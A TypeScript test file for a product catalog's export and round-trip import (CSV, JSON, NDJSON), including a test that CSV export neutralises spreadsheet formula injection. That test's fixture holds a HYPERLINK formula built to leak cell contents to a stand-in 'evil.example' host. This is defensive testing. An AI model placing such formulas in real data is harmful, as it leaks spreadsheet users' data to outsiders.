import { readFile } from "node:fs/promises";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { deactivateProduct } from "../../src/catalog/editProduct.js";
import { exportCatalog } from "../../src/catalog/io/exportCatalog.js";
import { importCatalog } from "../../src/catalog/io/importCatalog.js";
import { saveProduct } from "../../src/catalog/saveProduct.js";
import { footballInput } from "../support/seedBasics.js";
import { createTestDatabase, type TestDatabase } from "../support/testDatabase.js";
import { catalogSnapshots, counts, seedImportBasics, tempDir } from "./importHelpers.js";

describe("export and round trip (real PostgreSQL)", () => {
  let source: TestDatabase;
  let target: TestDatabase;
  let tmp: Awaited<ReturnType<typeof tempDir>>;
  let sourceExporter: string;

  beforeAll(async () => {
    [source, target] = await Promise.all([createTestDatabase(), createTestDatabase()]);
    tmp = await tempDir();
    sourceExporter = await seedImportBasics(source.db, "round-trip");
    await importCatalog(source.db, { exporterId: sourceExporter, file: "samples/catalog.json" });
  });
  afterAll(async () => {
    await tmp.cleanup();
    await Promise.all([source.drop(), target.drop()]);
  });

  it("CSV: import samples/catalog.json, export CSV, import it into a fresh database: the same snapshots", async () => {
    const csv = tmp.path("catalog.csv");
    const exported = await exportCatalog(source.db, { exporterId: sourceExporter, out: csv });
    expect(exported).toMatchObject({ format: "csv", products: 48, rows: 104, warnings: [] });
    const exporterId = await seedImportBasics(target.db, "round-trip-csv");
    const res = await importCatalog(target.db, { exporterId, file: csv });
    expect(res).toMatchObject({ status: "imported", created: 48, rows: 104 });
    expect(await catalogSnapshots(target.db, exporterId)).toEqual(await catalogSnapshots(source.db, sourceExporter));
    // Exporting the copy gives the same bytes, and the file is the committed sample.
    const again = tmp.path("again.csv");
    await exportCatalog(target.db, { exporterId, out: again });
    expect(await readFile(again, "utf8")).toBe(await readFile(csv, "utf8"));
    expect(await readFile(csv, "utf8")).toBe(await readFile("samples/catalog.csv", "utf8"));
  });

  it("JSON and NDJSON: export, import into a fresh exporter: the same snapshots; re-import is all unchanged", async () => {
    for (const format of ["json", "ndjson"] as const) {
      const file = tmp.path(`catalog.${format}`);
      expect(await exportCatalog(source.db, { exporterId: sourceExporter, out: file })).toMatchObject({
        format,
        products: 48,
      });
      const exporterId = await seedImportBasics(target.db, `round-trip-${format}`);
      expect(await importCatalog(target.db, { exporterId, file })).toMatchObject({ status: "imported", created: 48 });
      expect(await catalogSnapshots(target.db, exporterId)).toEqual(await catalogSnapshots(source.db, sourceExporter));
      const before = await counts(target.db, exporterId);
      expect(await importCatalog(target.db, { exporterId, file })).toMatchObject({
        unchanged: 48,
        created: 0,
        updated: 0,
      });
      expect(await counts(target.db, exporterId)).toEqual(before);
    }
  });

  it("neutralises formula injection in CSV cells and the round trip restores the exact values", async () => {
    const exporterId = await seedImportBasics(source.db, "formulas");
    const product = footballInput("FX-1", {
      category: "sports-footballs",
      modelNumber: "-X1",
      content: [
        {
          locale: "en",
          title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for discount")',
          description: "+92 300 1234567, call us",
          bullets: ["-20% off on 500+ pcs", "Hand stitched"],
          keywords: ["@home", "football", "pipe | inside", "back\\slash"],
        },
        // Machine content, and human content left unlocked: the source:/locked: columns carry both.
        { locale: "zh-Hans", title: "'=already quoted", description: "\tindented", source: "machine", locked: true },
        { locale: "ur", title: "-فٹ بال", description: 'first\rsecond\r\nthird | with \\ and "quotes"', locked: false },
      ],
      attributes: [
        { key: "temperature_c", type: "number", value: "-5" },
        { key: "note", type: "text", value: "'plain apostrophe" },
      ],
      media: [{ url: "https://images.example.com/fx.jpg", altText: "=1+1" }],
    });
    await saveProduct(source.db, exporterId, product, { mode: "create" });
    const csv = tmp.path("formulas.csv");
    await exportCatalog(source.db, { exporterId, out: csv });

    const [header, row] = parse(await readFile(csv, "utf8")) as string[][];
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell("title:en")).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click for discount")`);
    expect(cell("description:en")).toBe("'+92 300 1234567, call us");
    expect(cell("bullets:en")).toBe("'-20% off on 500+ pcs|Hand stitched");
    expect(cell("keywords:en")).toBe("'@home|football|pipe \\| inside|back\\\\slash");
    expect(cell("model_number")).toBe("'-X1");
    expect(cell("title:zh-Hans")).toBe("''=already quoted");
    expect(cell("description:zh-Hans")).toBe("'\tindented");
    expect(cell("source:zh-Hans")).toBe("machine");
    expect(cell("locked:ur")).toBe("false");
    expect(cell("attr:temperature_c:number")).toBe("'-5");
    expect(cell("attr:note:text")).toBe("'plain apostrophe");
    expect(cell("image_alts")).toBe("'=1+1");
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    const copy = await seedImportBasics(target.db, "formulas-copy");
    expect(await importCatalog(target.db, { exporterId: copy, file: csv })).toMatchObject({
      status: "imported",
      created: 1,
    });
    expect(await catalogSnapshots(target.db, copy)).toEqual(await catalogSnapshots(source.db, exporterId));
  });

  it("leaves deactivated products out unless asked", async () => {
    const exporterId = await seedImportBasics(source.db, "inactive");
    await saveProduct(source.db, exporterId, footballInput("IN-1", { category: "sports-footballs" }), {
      mode: "create",
    });
    const gone = await saveProduct(source.db, exporterId, footballInput("IN-2", { category: "sports-footballs" }), {
      mode: "create",
    });
    await deactivateProduct(source.db, gone.id);
    const file = tmp.path("inactive.json");
    expect(await exportCatalog(source.db, { exporterId, out: file })).toMatchObject({ products: 1 });
    expect(await exportCatalog(source.db, { exporterId, out: file, includeInactive: true })).toMatchObject({
      products: 2,
    });
  });
});
